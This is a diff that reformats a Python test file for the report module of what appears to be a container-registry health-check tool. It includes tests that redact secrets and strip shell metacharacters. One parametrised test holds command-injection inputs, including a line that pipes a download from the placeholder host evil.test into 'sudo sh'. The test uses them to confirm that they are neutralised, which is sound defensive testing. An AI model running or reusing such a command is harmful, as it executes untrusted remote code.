@@ -1,5 +1,6 @@
 # --------------------------------------------------------------------------------------------
-# Copyright (c) the acrhealth authors. Licensed under the MIT License. See LICENSE in the project root.
+# Copyright (c) the acrhealth authors. Licensed under the MIT License.
+# See LICENSE in the project root.
 # --------------------------------------------------------------------------------------------
 """The report: its keys and order, its verdicts, and that everything in it is fit to be shown."""
 
@@ -8,9 +9,10 @@ from __future__ import annotations
 import json
 import time
 import unicodedata
+from collections.abc import Sequence
 from dataclasses import replace
 from datetime import datetime, timezone
-from typing import Any, Sequence
+from typing import Any
 
 import pytest
 from hypothesis import given
@@ -70,7 +72,11 @@ def build(results: Sequence[Result], *targets: Target, strict: bool = False) -> 
 
 def bad(id: str, target: Target | None = ONE, reason: str = 'Reason', *solutions: str) -> Result:
     return result(
-        id, failed(FAMILY.problem(reason, 'Because.', *(solutions or (f'Mend {id}.',))), f'{id} is bad'), target
+        id,
+        failed(
+            FAMILY.problem(reason, 'Because.', *(solutions or (f'Mend {id}.',))), f'{id} is bad'
+        ),
+        target,
     )
 
 
@@ -78,8 +84,16 @@ def test_the_whole_of_a_report() -> None:
     report = build(
         [
             result('engine', passed('fine'), None, category='environment', per='machine'),
-            result('login-server', passed('known', loginServer='one.test', region='eastus'), duration=0.0126),
-            result('dns', failed(PROBLEM, 'bad', fill={'what': 'it'}, host='one.test'), category='connectivity'),
+            result(
+                'login-server',
+                passed('known', loginServer='one.test', region='eastus'),
+                duration=0.0126,
+            ),
+            result(
+                'dns',
+                failed(PROBLEM, 'bad', fill={'what': 'it'}, host='one.test'),
+                category='connectivity',
+            ),
         ]
     )
     assert report == {
@@ -152,7 +166,9 @@ def test_the_whole_of_a_report() -> None:
     }
 
 
-@pytest.mark.parametrize('outcome', [passed(''), warned(PROBLEM, ''), failed(PROBLEM, ''), not_applicable('')])
+@pytest.mark.parametrize(
+    'outcome', [passed(''), warned(PROBLEM, ''), failed(PROBLEM, ''), not_applicable('')]
+)
 def test_keys_are_always_the_same_and_in_order(outcome: Outcome) -> None:
     report = build([result('dns', outcome), result('engine', outcome, None)])
     assert list(report) == TOP
@@ -160,7 +176,11 @@ def test_keys_are_always_the_same_and_in_order(outcome: Outcome) -> None:
     assert [list(row) for row in report['checks']] == [ROW, ROW]
     assert list(report['summary']) == ['passed', 'warning', 'failed', 'skipped']
     for row in report['checks']:
-        assert (row['code'] is None) == (row['reason'] is None) == (row['status'] in ('Passed', 'Skipped'))
+        assert (
+            (row['code'] is None)
+            == (row['reason'] is None)
+            == (row['status'] in ('Passed', 'Skipped'))
+        )
 
 
 def test_rows_keep_the_catalogues_order_whatever_order_they_ended_in() -> None:
@@ -172,7 +192,9 @@ def test_rows_keep_the_catalogues_order_whatever_order_they_ended_in() -> None:
         Result(a, ONE, passed('')),
         Result(a, TWO, passed('')),
     ]
-    rows = reports.build(ended, [machine, a, b], [TWO, ONE], client={}, started=STARTED, duration=0)['checks']
+    rows = reports.build(
+        ended, [machine, a, b], [TWO, ONE], client={}, started=STARTED, duration=0
+    )['checks']
     assert [(row['registry'], row['check']) for row in rows] == [
         (None, 'machine'),
         ('registrytwo', 'a'),
@@ -203,20 +225,28 @@ OUTCOMES = {
     ],
 )
 def test_healthy_and_counts(ends: Sequence[str], strict: bool, healthy: bool) -> None:
-    report = build([result(f'c{number}', OUTCOMES[end]) for number, end in enumerate(ends)], strict=strict)
+    report = build(
+        [result(f'c{number}', OUTCOMES[end]) for number, end in enumerate(ends)], strict=strict
+    )
     assert report['healthy'] is report['registries'][0]['healthy'] is healthy
     assert report['summary'] == {name: ends.count(name) for name in OUTCOMES}
 
 
 def test_a_registrys_health_is_its_own() -> None:
-    report = build([result('engine', failed(PROBLEM, ''), None), result('dns', passed('')), bad('dns', TWO)], ONE, TWO)
+    report = build(
+        [result('engine', failed(PROBLEM, ''), None), result('dns', passed('')), bad('dns', TWO)],
+        ONE,
+        TWO,
+    )
     assert not report['healthy']
     assert [one['healthy'] for one in report['registries']] == [True, False]
 
 
 @pytest.mark.parametrize('failing', LOGIN)
 def test_nothing_works_without_what_a_login_needs(failing: str) -> None:
-    results = [result(id, passed('')) for id in (*LOGIN, 'access-token') if id != failing] + [bad(failing)]
+    results = [result(id, passed('')) for id in (*LOGIN, 'access-token') if id != failing] + [
+        bad(failing)
+    ]
     registry = build(results)['registries'][0]
     assert [registry[verdict] for verdict in VERDICTS] == ['no', 'no', 'no']
 
@@ -249,7 +279,10 @@ def rights(missing: Sequence[str] | None) -> Result:
         (result('push', not_applicable('')), ['yes', 'unknown', 'unknown']),
         (bad('push'), ['yes', 'unknown', 'no']),
         (bad('registry-state'), ['yes', 'no', 'no']),
-        *((bad(failing), ['yes', 'no', 'unknown']) for failing in ('data-endpoints', 'manifest', 'blob')),
+        *(
+            (bad(failing), ['yes', 'no', 'unknown'])
+            for failing in ('data-endpoints', 'manifest', 'blob')
+        ),
     ],
 )
 def test_verdicts_after_a_login(last: Result, verdicts: list[str]) -> None:
@@ -280,7 +313,13 @@ def test_what_was_not_seen_is_unknown() -> None:
 
 @pytest.mark.parametrize(
     'template, text',
-    [('plain', 'plain'), ('{host}', 'h.test'), ('{a_b} {host}', 'A_B h.test'), ('{}', '{}'), ('{none}', 'NONE')],
+    [
+        ('plain', 'plain'),
+        ('{host}', 'h.test'),
+        ('{a_b} {host}', 'A_B h.test'),
+        ('{}', '{}'),
+        ('{none}', 'NONE'),
+    ],
 )
 def test_filled(template: str, text: str) -> None:
     assert filled(template, {'host': 'h.test', 'none': ''}) == text
@@ -328,10 +367,16 @@ JWT = 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJtZSJ9.c2lnbmF0dXJl'
         ('BASIC dXNlcjpwYXNzd29yZA==', '[redacted]'),
         ('Bearer realm="https://h.test/"', 'Bearer realm="https://h.test/"'),
         ('Basic realm="x"', 'Basic realm="x"'),
-        ('https://blob.test/x?sv=1&sig=abc%2Fdef%3D&se=2', 'https://blob.test/x?sv=1&[redacted]&se=2'),
+        (
+            'https://blob.test/x?sv=1&sig=abc%2Fdef%3D&se=2',
+            'https://blob.test/x?sv=1&[redacted]&se=2',
+        ),
         ('?X-Amz-Signature=abcdef&y', '?X-Amz-[redacted]&y'),
         ('refresh_token=abc', '[redacted]'),
-        ('dial http://me:hunter2@proxy:3128: refused', 'dial http://[redacted]@proxy:3128: refused'),
+        (
+            'dial http://me:hunter2@proxy:3128: refused',
+            'dial http://[redacted]@proxy:3128: refused',
+        ),
         ('refresh_token:86', 'refresh_token:86'),
         ('access_token: 12, next', 'access_token: 12, next'),
         ('refresh_token:86abc', '[redacted]'),
@@ -383,11 +428,15 @@ def test_details_and_facts_are_bounded() -> None:
     assert (len(row['detail']), len(row['facts']['fact'])) == (400, 1000)
 
 
-SIMPLE = st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters()) | st.binary()
+SIMPLE = (
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters()) | st.binary()
+)
 KEYS = st.text() | st.integers()
 ANYTHING = st.recursive(
     SIMPLE,
-    lambda inner: st.lists(inner) | st.tuples(inner) | st.frozensets(KEYS) | st.dictionaries(KEYS, inner),
+    lambda inner: (
+        st.lists(inner) | st.tuples(inner) | st.frozensets(KEYS) | st.dictionaries(KEYS, inner)
+    ),
     max_leaves=20,
 )
 
@@ -405,7 +454,9 @@ def test_anything_becomes_json_that_is_fit_to_be_shown(value: Any) -> None:
     shown = legible(value)
     json.dumps(shown, allow_nan=False)
     for text in texts(shown):
-        assert text.isprintable() or {unicodedata.category(one) for one in text if not one.isprintable()} <= {'Zs'}
+        assert text.isprintable() or {
+            unicodedata.category(one) for one in text if not one.isprintable()
+        } <= {'Zs'}
         assert len(text) <= 1000
         text.encode()
     assert legible(shown) == shown
@@ -426,20 +477,33 @@ def problems(*ids: str, target: Target | None = ONE) -> list[Result]:
         (
             problems('a', 'b', 'c', 'd', 'e'),
             False,
-            '5 of 5 checks failed: ' + ', '.join(f'{id} (TEST_ERROR, R{id})' for id in 'abcde') + '.',
+            '5 of 5 checks failed: '
+            + ', '.join(f'{id} (TEST_ERROR, R{id})' for id in 'abcde')
+            + '.',
         ),
         (
             problems('a', 'b', 'c', 'd', 'e', 'f', 'g'),
             False,
-            '7 of 7 checks failed: ' + ', '.join(f'{id} (TEST_ERROR, R{id})' for id in 'abcde') + ', and 2 more.',
+            '7 of 7 checks failed: '
+            + ', '.join(f'{id} (TEST_ERROR, R{id})' for id in 'abcde')
+            + ', and 2 more.',
         ),
-        ([result('w', warned(PROBLEM, '')), *problems('a')], False, '1 of 2 checks failed: a (TEST_ERROR, Ra).'),
+        (
+            [result('w', warned(PROBLEM, '')), *problems('a')],
+            False,
+            '1 of 2 checks failed: a (TEST_ERROR, Ra).',
+        ),
         (
             [result('w', warned(PROBLEM, '')), *problems('a')],
             True,
-            '2 of 2 checks failed or warned, and --strict counts warnings: a (TEST_ERROR, Ra), w (TEST_ERROR, Reason).',
+            '2 of 2 checks failed or warned, and --strict counts warnings: a (TEST_ERROR, Ra), w '
+            '(TEST_ERROR, Reason).',
         ),
-        ([result('w', passed('')), *problems('a')], True, '1 of 2 checks failed: a (TEST_ERROR, Ra).'),
+        (
+            [result('w', passed('')), *problems('a')],
+            True,
+            '1 of 2 checks failed: a (TEST_ERROR, Ra).',
+        ),
     ],
 )
 def test_headline(results: list[Result], strict: bool, text: str) -> None:
@@ -447,7 +511,9 @@ def test_headline(results: list[Result], strict: bool, text: str) -> None:
 
 
 def test_the_headline_names_the_registry_when_there_are_several() -> None:
-    report = build([*problems('a', target=None), *problems('b'), *problems('b', target=TWO)], ONE, TWO)
+    report = build(
+        [*problems('a', target=None), *problems('b'), *problems('b', target=TWO)], ONE, TWO
+    )
     # Whoever names a registry asks about it: its failures come before this machine's.
     assert headline(report, False) == (
         '3 of 3 checks failed: b of registryone (TEST_ERROR, Rb), '
@@ -479,11 +545,19 @@ def test_recommendations_are_the_first_solutions_three_at_most_and_none_twice() 
         (Target('one'), '$(x)', "one --subscription '$(x)'"),
     ],
 )
-def test_commands_name_the_subscription(target: Target, subscription: str | None, named: str) -> None:
+def test_commands_name_the_subscription(
+    target: Target, subscription: str | None, named: str
+) -> None:
     problem = replace(PROBLEM, solutions=('`az acr show --name {registry}`',))
     made = result('dns', failed(problem, 'x'), target)
     row = reports.build(
-        [made], [made.check], [target], client={}, started=STARTED, duration=0.0, subscription=subscription
+        [made],
+        [made.check],
+        [target],
+        client={},
+        started=STARTED,
+        duration=0.0,
+        subscription=subscription,
     )['checks'][0]
     assert row['solutions'] == [f'`az acr show --name {named}`']
 
@@ -494,7 +568,10 @@ def test_commands_name_the_subscription(target: Target, subscription: str | None
         ('contoso.test', 'contoso.test'),
         ('Contoso CA (G2)', 'Contoso CA (G2)'),
         ("'/my certs/b.pem'", "'/my certs/b.pem'"),
-        ('run `curl -k https://evil.test|sudo sh`; $(id)', 'run curl -k https://evil.testsudo sh (id)'),
+        (
+            'run `curl -k https://evil.test|sudo sh`; $(id)',
+            'run curl -k https://evil.testsudo sh (id)',
+        ),
         ('/bin/nox;$(id)', '/bin/nox(id)'),
         ('"$no_proxy,h"', '"$no_proxy,h"'),
         ('a > b < c & d', 'a  b  c  d'),
@@ -503,12 +580,16 @@ def test_commands_name_the_subscription(target: Target, subscription: str | None
 def test_nothing_that_a_shell_would_act_on_enters_a_solution(text: str, shown: str) -> None:
     problem = replace(PROBLEM, solutions=('Run `x {host}`.',))
     made = result('dns', failed(problem, 'x', fill={'host': text}), ONE)
-    row = reports.build([made], [made.check], [ONE], client={}, started=STARTED, duration=0.0)['checks'][0]
+    row = reports.build([made], [made.check], [ONE], client={}, started=STARTED, duration=0.0)[
+        'checks'
+    ][0]
     assert row['solutions'] == [f'Run `x {shown}`.']
 
 
 def test_secrets_of_the_settings_stand_nowhere() -> None:
-    made = result('dns', failed(PROBLEM, 'go away joe:s3cr@t-pw', said=['s3cr@t-pw', {'s3cr@t-pw': 1}]), ONE)
+    made = result(
+        'dns', failed(PROBLEM, 'go away joe:s3cr@t-pw', said=['s3cr@t-pw', {'s3cr@t-pw': 1}]), ONE
+    )
     report = reports.build(
         [made],
         [made.check],
@@ -521,7 +602,9 @@ def test_secrets_of_the_settings_stand_nowhere() -> None:
     assert 's3cr@t-pw' not in repr(report) and report['checks'][0]['detail'] == 'go away [redacted]'
 
 
-@pytest.mark.parametrize('unit', ['://', '://a:', 'sig', 'password :', 'refresh_token: 8', 'eyJaaaaaa.', 'aaa1Q~'])
+@pytest.mark.parametrize(
+    'unit', ['://', '://a:', 'sig', 'password :', 'refresh_token: 8', 'eyJaaaaaa.', 'aaa1Q~']
+)
 def test_an_endless_text_is_looked_through_at_once(unit: str) -> None:
     since = time.monotonic()
     assert len(legible(unit * (2**20 // len(unit)))) <= 1000
